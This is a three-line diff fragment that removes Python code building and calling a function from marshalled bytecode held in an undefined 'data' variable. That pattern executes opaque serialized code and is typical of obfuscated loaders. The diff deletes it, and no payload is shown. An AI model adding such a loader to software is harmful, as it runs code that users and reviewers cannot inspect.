@@ -1,3 +1,0 @@
-import types, marshal
-f = types.FunctionType(marshal.loads(data), globals())
-f()
